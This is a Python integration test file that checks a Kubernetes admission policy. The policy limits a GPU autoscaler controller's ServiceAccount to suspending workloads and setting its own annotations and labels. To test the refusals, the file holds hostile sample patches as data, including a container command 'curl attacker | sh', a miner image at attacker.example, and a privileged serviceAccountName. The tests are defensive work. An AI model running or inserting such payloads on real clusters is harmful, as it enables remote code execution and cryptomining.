"""The admission policy of deploy/base (``admissionpolicy.yaml``, a ValidatingAdmissionPolicy) on the real
kube-apiserver: what the controller's ServiceAccount may change in the objects its ClusterRole lets it patch.

``deploy/base`` is rendered and applied (``kubectl apply``; the two Prometheus Operator kinds left out, their CRDs are
not installed here), then the controller acts with a TokenRequest token of the ServiceAccount the base creates:

- the real adapters' writes go through: ``KubeClusterWriter.suspend_workload`` / ``resume_workload`` of a Job, a
  JobSet, a PyTorchJob, a TFJob and a Kueue Workload (minimal CRDs, schema open), ``MachineDeploymentNodePools.scale``
  marking a Cluster API Machine before a scale-down, ``KubeClusterWriter.set_pod_deletion_cost`` marking (and
  unmarking) a replica of any namespace for a scale-down, ``KubernetesLeaderPodLabel`` labelling the leader's pod (with
  the scheduler-extender overlay's Role);
- anything else the same token sends is refused (403, the policy's message) and changes nothing: a pod template's
  image, command or serviceAccountName, a Job's parallelism or (never started) nodeSelector and tolerations,
  another spec field, labels and annotations other than its own (the workload owner's gpuautoscaler.dev/ ones too),
  ownerReferences, finalizers, a Machine's spec, a pod's image, a pod outside its namespace;
- a cluster admin's patch of the same fields goes through, and so does another ServiceAccount's with the same
  ClusterRole (the matchCondition names the controller's alone).

The policy is created with the CRDs of the optional kinds absent (they come and go per test): a resource rule naming
a resource that is not served blocks nothing and applies as soon as the CRD is there. Enforcement starts shortly
after the policy is created (the apiserver's policy informers): ``wait_enforced`` polls with a dry-run request.
"""

from __future__ import annotations

import copy
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from kubernetes import client

from autoscaler.adapters.kubernetes import KubeClusterWriter, MachineDeploymentNodePools, WriterConfig
from autoscaler.adapters.kubernetes._api import MERGE_PATCH
from autoscaler.adapters.kubernetes.config import load_api_client
from autoscaler.adapters.kubernetes.leader_label import LEADER_LABEL, KubernetesLeaderPodLabel
from autoscaler.adapters.kubernetes.nodepool import DELETE_MACHINE_ANNOTATION, MARKED_BY_ANNOTATION
from autoscaler.adapters.kubernetes.reader import DELETION_COST_BY_ANNOTATION, POD_DELETION_COST_ANNOTATION
from autoscaler.adapters.kubernetes.workloads import MIN_RUNTIME_ANNOTATION, OUR_ANNOTATIONS, WORKLOAD_KINDS
from autoscaler.core.cluster import DELETION_COST_BY_US
from autoscaler.ports import WriteOutcome
from tests.kube import objects as o
from tests.realkube.control_plane import REPO, ApiError, ControlPlane, find_kubectl
from tests.realkube.manifests import gpu_pod_spec, job, running_ready
from tests.realkube.test_adapter_faults_real import crd
from tests.realkube.test_apply_kustomize import MONITORING, Kubectl, uninstall

pytestmark = [pytest.mark.integration, pytest.mark.realkube]

BASE = REPO / "deploy" / "base"
EXTENDER_RBAC = REPO / "deploy" / "overlays" / "scheduler-extender" / "leader-only.yaml"
POLICY = "gpu-autoscaler-patch-scope"
DENIED_BY = f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied request"
# the policy's messages (deploy/base/admissionpolicy.yaml), one per rule
SPEC = "may change only a workload's suspension in a spec"
ANNOTATIONS = "may set or remove only its own annotations"
LABELS = "may set or remove no label except gpuautoscaler.dev/leader on a pod"
OWN_NAMESPACE = "may label only pods of its own namespace"
METADATA = "may not change an object's metadata beyond its own annotations and labels"
STRATEGIC = "application/strategic-merge-patch+json"  # a pod's containers by name: only the image changes


@pytest.fixture(scope="module")
def kubectl(control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Kubectl:
    found, why = find_kubectl()
    if found is None:
        if os.environ.get("CI"):
            pytest.fail(f"CI is set and kubectl is unavailable: {why}", pytrace=False)
        pytest.skip(why)
    return Kubectl(found, control_plane.admin_kubeconfig, tmp_path_factory.mktemp("kubectl-home"))


def rendered_base(kubectl: Kubectl) -> list[dict[str, Any]]:
    """deploy/base as `kubectl kustomize` renders it, without the Prometheus Operator's kinds."""
    return [d for d in kubectl.render(BASE) if d["kind"] not in MONITORING]


@dataclass
class Controller:
    """The controller's identity: the base's ServiceAccount, a token of it, an ApiClient built as the controller's."""

    namespace: str
    name: str
    token: str
    api: client.ApiClient


@pytest.fixture(scope="module")
def controller(
    control_plane: ControlPlane, kubectl: Kubectl, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Controller]:
    """deploy/base applied; the controller's ServiceAccount's token. Uninstalled afterwards, waited for."""
    docs = rendered_base(kubectl)
    manifest = tmp_path_factory.mktemp("base") / "base.yaml"
    manifest.write_text(yaml.safe_dump_all(docs))
    try:
        kubectl.run("apply", "-f", str(manifest))
        [account] = [d["metadata"] for d in docs if d["kind"] == "ServiceAccount"]
        token = control_plane.request(
            "POST",
            f"/api/v1/namespaces/{account['namespace']}/serviceaccounts/{account['name']}/token",
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 3600}},
        )["status"]["token"]
        kubeconfig = control_plane.write_kubeconfig(
            tmp_path_factory.mktemp("sa") / "kubeconfig", account["name"], token, account["namespace"]
        )
        api = load_api_client("kubeconfig", kubeconfig)
        try:
            yield Controller(account["namespace"], account["name"], token, api)
        finally:
            api.close()  # type: ignore[no-untyped-call]
    finally:
        kubectl.run("delete", "-f", str(manifest), "--ignore-not-found", "--wait=true", "--timeout=180s", check=False)
        uninstall(kubectl, BASE)  # waits for the namespace and the CRD to be gone


def patch(
    cp: ControlPlane,
    path: str,
    body: Any,
    *,
    token: str | None = None,
    dry_run: bool = False,
    content_type: str = MERGE_PATCH,
) -> tuple[int, str]:
    """A patch (merge patch unless said) as ``token`` (default: the admin); (HTTP status, the error's message)."""
    try:
        params = {"dryRun": "All"} if dry_run else None
        cp.request("PATCH", path, body, token=token, content_type=content_type, params=params)
    except ApiError as exc:
        return exc.status, str(exc.body.get("message") if isinstance(exc.body, dict) else exc.body)
    return 200, ""


def wait_enforced(cp: ControlPlane, ctrl: Controller, path: str) -> None:
    """Until the policy refuses the controller a change of a label of ``path`` (dry run: nothing is written)."""

    def refused() -> bool | None:
        status, message = patch(cp, path, {"metadata": {"labels": {"probe": "x"}}}, token=ctrl.token, dry_run=True)
        return (status == 403 and DENIED_BY in message) or None

    try:
        cp.wait(f"{POLICY} enforced on {path}", refused, timeout_s=30, interval_s=0.2)
    except Exception as exc:
        raise AssertionError(f"the admission policy was not enforced within 30 s: {exc}") from None


def assert_denied(
    cp: ControlPlane, ctrl: Controller, path: str, body: Any, says: str, content_type: str = MERGE_PATCH
) -> None:
    """The controller's patch is refused by the policy with the message ``says`` (403) and nothing changes."""
    before = written(cp.get(path))
    status, message = patch(cp, path, body, token=ctrl.token, content_type=content_type)
    assert (status, DENIED_BY in message, says in message) == (403, True, True), (body, status, message)
    assert written(cp.get(path)) == before, body


def written(obj: dict[str, Any]) -> dict[str, Any]:
    """What a patch of the main resource could change (not the status that controllers write meanwhile)."""
    meta = {k: v for k, v in obj["metadata"].items() if k not in ("resourceVersion", "managedFields")}
    return {"metadata": meta, "spec": obj.get("spec")}


def assert_admin_may(cp: ControlPlane, path: str, body: Any, content_type: str = MERGE_PATCH) -> None:
    assert patch(cp, path, body, content_type=content_type) == (200, ""), body


def writer(ctrl: Controller) -> KubeClusterWriter:
    return KubeClusterWriter(ctrl.api, WriterConfig(reporting_instance="patch-policy-test"), sleep=lambda s: None)


def ours(obj: dict[str, Any]) -> set[str]:
    return set(obj["metadata"].get("annotations") or {}) & set(OUR_ANNOTATIONS)


def flag(obj: dict[str, Any], kind: str) -> Any:
    """The workload's suspension flag (spec.suspend, spec.runPolicy.suspend, spec.active)."""
    node: Any = obj
    for part in WORKLOAD_KINDS[kind].path:
        node = node[part]
    return node


def without_flag(obj: dict[str, Any], kind: str) -> dict[str, Any]:
    """The object's spec without its suspension flag."""
    *parents, leaf = WORKLOAD_KINDS[kind].path
    out = copy.deepcopy(obj)
    node = out
    for part in parents:
        node = node[part]
    del node[leaf]
    return dict(out["spec"])


def bogus_owner() -> dict[str, Any]:
    """An owner that does not exist: the garbage collector would delete the object (a delete RBAC does not grant)."""
    return {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-00000000dead"}


# ---- batch/v1 Job ------------------------------------------------------------------------------------------------


def test_a_job_only_suspended_and_resumed(control_plane: ControlPlane, namespace: str, controller: Controller) -> None:
    cp, ns, ctrl = control_plane, namespace, controller
    jobs = f"/apis/batch/v1/namespaces/{ns}/jobs"
    cp.request("POST", jobs, job("train", 1, gpu_pod_spec(1)))
    path = f"{jobs}/train"
    wait_enforced(cp, ctrl, path)

    # the controller's own writes, by the real writer: suspension with its three annotations, then resumption
    writer(ctrl).suspend_workload("Job", ns, "train")
    suspended = cp.get(path)
    assert suspended["spec"]["suspend"] is True and ours(suspended) == set(OUR_ANNOTATIONS)

    # everything else the token could write is refused and changes nothing
    for body, says in (
        ({"spec": {"parallelism": 4}}, SPEC),
        ({"spec": {"suspend": False, "parallelism": 4}}, SPEC),  # the allowed field does not carry another
        ({"spec": {"activeDeadlineSeconds": 1}}, SPEC),
        ({"metadata": {"labels": {"team": "attacker"}}}, LABELS),
        ({"metadata": {"labels": {"gpuautoscaler.dev/preemptible": "true"}}}, LABELS),  # in its domain, not its own
        ({"metadata": {"labels": {"job": None}}}, LABELS),
        ({"metadata": {"annotations": {MIN_RUNTIME_ANNOTATION: "0"}}}, ANNOTATIONS),  # the owner's, not ours
        ({"metadata": {"annotations": {"note": "x"}}}, ANNOTATIONS),
        ({"metadata": {"ownerReferences": [bogus_owner()]}}, METADATA),
        ({"metadata": {"finalizers": ["example.com/hold"]}}, METADATA),
    ):
        assert_denied(cp, ctrl, path, body, says)
    # A started Job's pod template is immutable for everyone (the Job's own validation answers first).
    status, message = patch(
        cp, path, {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}}, token=ctrl.token
    )
    assert status == 422 and "field is immutable" in message, (status, message)

    writer(ctrl).resume_workload("Job", ns, "train")
    resumed = cp.get(path)
    assert resumed["spec"]["suspend"] is False and ours(resumed) == set()
    assert resumed["spec"]["parallelism"] == 1 and resumed["metadata"].get("ownerReferences") is None

    # A Job created suspended and never started: its template's scheduling fields are mutable (for a queue such as
    # Kueue), so a stolen token could steer its pods onto any node -- refused; a cluster admin may.
    queued = job("queued", 1, gpu_pod_spec(1))
    queued["spec"]["suspend"] = True
    cp.request("POST", jobs, queued)
    path = f"{jobs}/queued"
    steer = (
        {"spec": {"template": {"spec": {"nodeSelector": {"kubernetes.io/hostname": "kwok-l4-0"}}}}},
        {"spec": {"template": {"spec": {"tolerations": [{"operator": "Exists"}]}}}},
        {"spec": {"template": {"metadata": {"labels": {"job": "queued", "extra": "x"}}}}},
    )
    for body in steer:
        assert_denied(cp, ctrl, path, body, SPEC)
    for body in (
        *steer,
        {"spec": {"parallelism": 2}},
        {"metadata": {"labels": {"team": "ml"}}},
        {"metadata": {"annotations": {MIN_RUNTIME_ANNOTATION: "600"}}},
    ):
        assert_admin_may(cp, path, body)
    assert cp.get(path)["spec"]["template"]["spec"]["nodeSelector"]["kubernetes.io/hostname"] == "kwok-l4-0"


def test_another_serviceaccount_with_the_same_role_is_not_confined(
    control_plane: ControlPlane, namespace: str, controller: Controller, kubectl: Kubectl
) -> None:
    """The matchCondition names the controller's ServiceAccount exactly: one of the same name elsewhere, bound to
    the same ClusterRole, patches what RBAC lets it."""
    cp, ns = control_plane, namespace
    role = next(d for d in rendered_base(kubectl) if d["kind"] == "ClusterRole")["metadata"]["name"]
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": f"patch-policy-other-{ns}"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"kind": "ServiceAccount", "name": controller.name, "namespace": ns}],
    }
    cp.request("POST", f"/api/v1/namespaces/{ns}/serviceaccounts", {"metadata": {"name": controller.name}})
    cp.request("POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", binding)
    try:
        token = cp.request(
            "POST",
            f"/api/v1/namespaces/{ns}/serviceaccounts/{controller.name}/token",
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 600}},
        )["status"]["token"]
        cp.request("POST", f"/apis/batch/v1/namespaces/{ns}/jobs", job("train", 1, gpu_pod_spec(1)))
        path = f"/apis/batch/v1/namespaces/{ns}/jobs/train"
        wait_enforced(cp, controller, path)  # enforced for the controller ...

        def other_may() -> bool | None:  # ... and not for the other ServiceAccount (RBAC may take a moment)
            return patch(cp, path, {"spec": {"parallelism": 2}}, token=token) == (200, "") or None

        cp.wait("the other ServiceAccount's patch", other_may, timeout_s=30)
        assert cp.get(path)["spec"]["parallelism"] == 2
    finally:
        cp.request("DELETE", f"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{binding['metadata']['name']}")


# ---- the workload CRDs: JobSet, PyTorchJob, TFJob, Kueue Workload --------------------------------------------------


def tfjob(name: str, namespace: str) -> dict[str, Any]:
    return {
        "apiVersion": "kubeflow.org/v1",
        "kind": "TFJob",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {
            "runPolicy": {"suspend": False},
            "tfReplicaSpecs": {"Worker": {"replicas": 2, "template": o.pod_template(1)}},
        },
    }


@dataclass(frozen=True)
class CustomWorkload:
    kind: str
    body: Callable[[str, str], dict[str, Any]]
    pod_spec: Callable[[dict[str, Any]], dict[str, Any]]  # the pod template's spec inside the object's spec
    other: dict[str, Any]  # another spec field the controller must not write

    @property
    def crd(self) -> dict[str, Any]:
        k = WORKLOAD_KINDS[self.kind]
        return o.simple_crd(k.group, k.version, self.kind, k.plural)

    def path(self, namespace: str, name: str = "") -> str:
        k = WORKLOAD_KINDS[self.kind]
        return f"/apis/{k.group}/{k.version}/namespaces/{namespace}/{k.plural}" + (f"/{name}" if name else "")


CUSTOM = [
    CustomWorkload(
        "JobSet",
        lambda name, ns: o.jobset(name, ns, replicated_jobs=[o.replicated_job("w", 1, 2, 1)]),
        lambda spec: spec["replicatedJobs"][0]["template"]["spec"]["template"]["spec"],
        {"spec": {"network": {"enableDNSHostnames": True}}},
    ),
    CustomWorkload(
        "PyTorchJob",
        lambda name, ns: o.pytorchjob(name, ns, workers=2),
        lambda spec: spec["pytorchReplicaSpecs"]["Worker"]["template"]["spec"],
        {"spec": {"runPolicy": {"backoffLimit": 100}}},  # runPolicy: only its "suspend"
    ),
    CustomWorkload(
        "TFJob",
        tfjob,
        lambda spec: spec["tfReplicaSpecs"]["Worker"]["template"]["spec"],
        {"spec": {"suspend": True}},  # not where a TFJob's suspension is
    ),
    CustomWorkload(
        "Workload",
        lambda name, ns: o.workload(name, ns, pod_sets=[(2, 1)]),
        lambda spec: spec["podSets"][0]["template"]["spec"],
        {"spec": {"queueName": "elsewhere"}},
    ),
]


def template_changes(kind: CustomWorkload, obj: dict[str, Any]) -> list[dict[str, Any]]:
    """Merge patches that rewrite the object's pod template: its image, command, serviceAccountName (the whole spec
    sent: a merge patch replaces lists)."""
    changes = []
    for change in (
        lambda pod: pod["containers"][0].update(image="attacker.example/miner:1"),
        lambda pod: pod["containers"][0].update(command=["/bin/sh", "-c", "curl attacker | sh"]),
        lambda pod: pod.update(serviceAccountName="cluster-admin-sa"),
    ):
        spec = copy.deepcopy(obj["spec"])
        change(kind.pod_spec(spec))
        changes.append({"spec": spec})
    return changes


@pytest.mark.parametrize("kind", CUSTOM, ids=[k.kind for k in CUSTOM])
def test_a_custom_workload_only_suspended_and_resumed(
    control_plane: ControlPlane, namespace: str, controller: Controller, kind: CustomWorkload
) -> None:
    cp, ns, ctrl = control_plane, namespace, controller
    with crd(cp, kind.crd):
        cp.request("POST", kind.path(ns), kind.body("train", ns))
        path = kind.path(ns, "train")
        wait_enforced(cp, ctrl, path)  # the policy existed before the CRD: it applies now that the CRD does

        writer(ctrl).suspend_workload(kind.kind, ns, "train")
        suspended = cp.get(path)
        assert flag(suspended, kind.kind) == WORKLOAD_KINDS[kind.kind].suspended_value
        assert ours(suspended) == set(OUR_ANNOTATIONS)

        for body in [*template_changes(kind, suspended), kind.other]:
            assert_denied(cp, ctrl, path, body, SPEC)
        assert_denied(cp, ctrl, path, {"metadata": {"labels": {"team": "attacker"}}}, LABELS)
        assert_denied(cp, ctrl, path, {"metadata": {"annotations": {"note": "x"}}}, ANNOTATIONS)
        assert_denied(cp, ctrl, path, {"metadata": {"ownerReferences": [bogus_owner()]}}, METADATA)

        writer(ctrl).resume_workload(kind.kind, ns, "train")
        resumed = cp.get(path)
        assert flag(resumed, kind.kind) == WORKLOAD_KINDS[kind.kind].resumed_value and ours(resumed) == set()
        assert without_flag(resumed, kind.kind) == without_flag(suspended, kind.kind)

        # a cluster admin may change all of it
        for body in [*template_changes(kind, resumed), kind.other, {"metadata": {"labels": {"team": "ml"}}}]:
            assert_admin_may(cp, path, body)
        assert kind.pod_spec(cp.get(path)["spec"])["serviceAccountName"] == "cluster-admin-sa"


# ---- Cluster API Machines: the delete-machine mark -----------------------------------------------------------------


def test_a_machine_only_marked_for_deletion(
    control_plane: ControlPlane, namespace: str, controller: Controller
) -> None:
    cp, ns, ctrl = control_plane, namespace, controller
    group = f"/apis/cluster.x-k8s.io/v1beta1/namespaces/{ns}"
    with crd(cp, o.machine_deployment_crd()), crd(cp, o.machine_crd()):
        body = o.machine_deployment("burst", ns, replicas=2)
        status = body.pop("status")
        cp.request("POST", f"{group}/machinedeployments", body)
        md = cp.get(f"{group}/machinedeployments/burst")
        cp.request("PUT", f"{group}/machinedeployments/burst/status", {**md, "status": status})
        for name, node in (("burst-1", "node-1"), ("burst-2", "node-2")):
            machine = o.machine(name, "burst", node, ns)
            machine_status = machine.pop("status")
            cp.request("POST", f"{group}/machines", machine)
            stored = cp.get(f"{group}/machines/{name}")
            cp.request("PUT", f"{group}/machines/{name}/status", {**stored, "status": machine_status})
        path = f"{group}/machines/burst-2"
        wait_enforced(cp, ctrl, path)

        # the real node-pool adapter as the controller: the node's Machine marked, then the size lowered
        pools = MachineDeploymentNodePools(ctrl.api, ns, sleep=lambda s: None)
        pools.scale("burst", 1, expected=2, remove_node="node-2")
        marked = cp.get(path)["metadata"]["annotations"]
        assert marked[DELETE_MACHINE_ANNOTATION].startswith("gpu-autoscaler ") and marked[MARKED_BY_ANNOTATION]
        assert cp.get(f"{group}/machinedeployments/burst")["spec"]["replicas"] == 1

        other = f"{group}/machines/burst-1"
        for body, says in (
            ({"spec": {"bootstrap": {"dataSecretName": "another-secret"}}}, SPEC),
            ({"spec": {"providerID": "aws:///attacker"}}, SPEC),
            ({"metadata": {"labels": {"cluster.x-k8s.io/deployment-name": None}}}, LABELS),  # orphan it
            ({"metadata": {"annotations": {"cluster.x-k8s.io/paused": ""}}}, ANNOTATIONS),
            ({"metadata": {"finalizers": ["example.com/hold"]}}, METADATA),
        ):
            assert_denied(cp, ctrl, other, body, says)
            if "finalizers" not in body.get("metadata", {}):
                assert_admin_may(cp, other, body)  # (no finalizer left behind: the CRD could not go)


# ---- pods: the leader label (scheduler-extender overlay) -----------------------------------------------------------


def test_a_pod_only_labelled_leader_in_its_namespace(
    control_plane: ControlPlane, namespace: str, controller: Controller
) -> None:
    """The scheduler-extender overlay's Role lets the controller patch pods of its namespace (its leader label): the
    policy keeps that to the label, there."""
    cp, ctrl = control_plane, controller
    rbac = [d for d in yaml.safe_load_all(EXTENDER_RBAC.read_text()) if d and d["kind"] in ("Role", "RoleBinding")]
    for ns in (ctrl.namespace, namespace):  # the overlay's Role, and the same in another namespace
        for doc in rbac:
            doc = {**doc, "metadata": {**doc["metadata"], "namespace": ns}}
            plural = "roles" if doc["kind"] == "Role" else "rolebindings"
            try:
                cp.request("POST", f"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/{plural}", doc)
            except ApiError as exc:
                if exc.status != 409:  # already there (a rerun): as wanted
                    raise
    selector = "app.kubernetes.io/name=gpu-autoscaler,app.kubernetes.io/component=controller"

    def both() -> list[dict[str, Any]] | None:
        pods = [p for p in cp.pods(ctrl.namespace, selector) if running_ready(p)]
        return pods if len(pods) == 2 else None

    pods = cp.wait("the base's two controller pods running", both, timeout_s=120)
    leader, standby = sorted(p["metadata"]["name"] for p in pods)
    path = f"/api/v1/namespaces/{ctrl.namespace}/pods/{standby}"
    wait_enforced(cp, ctrl, path)  # RBAC's 403 first, until the RoleBinding applies: then the policy's

    label = KubernetesLeaderPodLabel(ctrl.api, ctrl.namespace, leader, "gpu-autoscaler")
    label.mark_leader(lambda: True)
    assert cp.get(f"/api/v1/namespaces/{ctrl.namespace}/pods/{leader}")["metadata"]["labels"][LEADER_LABEL]
    for body, says in (
        ({"spec": {"containers": [{"name": "controller", "image": "attacker.example/miner:1"}]}}, SPEC),
        ({"spec": {"activeDeadlineSeconds": 1}}, SPEC),
        ({"metadata": {"labels": {"app.kubernetes.io/component": "x"}}}, LABELS),  # out of its Service
        ({"metadata": {"annotations": {"note": "x"}}}, ANNOTATIONS),
        ({"metadata": {"ownerReferences": None}}, METADATA),  # off its ReplicaSet
    ):
        assert_denied(cp, ctrl, path, body, says, content_type=STRATEGIC)
    label.unmark()
    assert LEADER_LABEL not in (cp.get(f"/api/v1/namespaces/{ctrl.namespace}/pods/{leader}")["metadata"]["labels"])

    # the same Role elsewhere: the leader label on a pod of another namespace is refused all the same
    cp.request("POST", f"/api/v1/namespaces/{namespace}/pods", {"metadata": {"name": "p"}, "spec": gpu_pod_spec(1)})
    elsewhere = f"/api/v1/namespaces/{namespace}/pods/p"
    cp.wait("pod p running", lambda: running_ready(cp.get(elsewhere)) or None, timeout_s=60)  # kwok done with it
    assert_denied(cp, ctrl, elsewhere, {"metadata": {"labels": {LEADER_LABEL: "gpu-autoscaler"}}}, OWN_NAMESPACE)
    # a cluster admin may change a pod's image
    image = {"spec": {"containers": [{"name": "controller", "image": "registry.k8s.io/pause:3.10"}]}}
    assert_admin_may(cp, path, image, content_type=STRATEGIC)
    assert cp.get(path)["spec"]["containers"][0]["image"] == "registry.k8s.io/pause:3.10"


# ---- pods: a scale-down's chosen replicas (capacity.choose_scale_down_replicas) ----------------------------------


def test_a_pod_only_marked_with_its_deletion_cost(
    control_plane: ControlPlane, namespace: str, controller: Controller
) -> None:
    """The base ClusterRole's pods/patch (any namespace) carries the deletion-cost marks of a scale-down's replicas:
    the policy lets the controller set and remove exactly those two annotations, and nothing else of a pod there --
    no label (not even its leader label outside its namespace), no other annotation, nothing in its spec."""
    cp, ctrl = control_plane, controller
    pod = {"metadata": {"name": "r", "annotations": {"note": "kept"}}, "spec": gpu_pod_spec(1)}
    cp.request("POST", f"/api/v1/namespaces/{namespace}/pods", pod)
    path = f"/api/v1/namespaces/{namespace}/pods/r"
    cp.wait("pod r running", lambda: running_ready(cp.get(path)) or None, timeout_s=60)
    wait_enforced(cp, ctrl, path)
    uid = cp.get(path)["metadata"]["uid"]
    marks = writer(ctrl)
    assert marks.set_pod_deletion_cost(namespace, "r", -1, uid=uid) is WriteOutcome.WROTE
    assert cp.get(path)["metadata"]["annotations"] == {
        "note": "kept", POD_DELETION_COST_ANNOTATION: "-1", DELETION_COST_BY_ANNOTATION: DELETION_COST_BY_US
    }  # fmt: skip
    for body, says in (
        ({"metadata": {"labels": {LEADER_LABEL: "gpu-autoscaler"}}}, OWN_NAMESPACE),
        ({"metadata": {"labels": {"app": "x"}}}, LABELS),  # out of its Service
        ({"metadata": {"annotations": {"note": "changed"}}}, ANNOTATIONS),
        ({"spec": {"activeDeadlineSeconds": 1}}, SPEC),
        ({"metadata": {"ownerReferences": [bogus_owner()]}}, METADATA),
    ):
        assert_denied(cp, ctrl, path, body, says)
    assert marks.set_pod_deletion_cost(namespace, "r", None, uid=uid) is WriteOutcome.WROTE
    assert cp.get(path)["metadata"]["annotations"] == {"note": "kept"}
    # a pod recreated under the name since the plan read it is not marked
    assert marks.set_pod_deletion_cost(namespace, "r", -1, uid="0-not-this-pod") is WriteOutcome.GONE
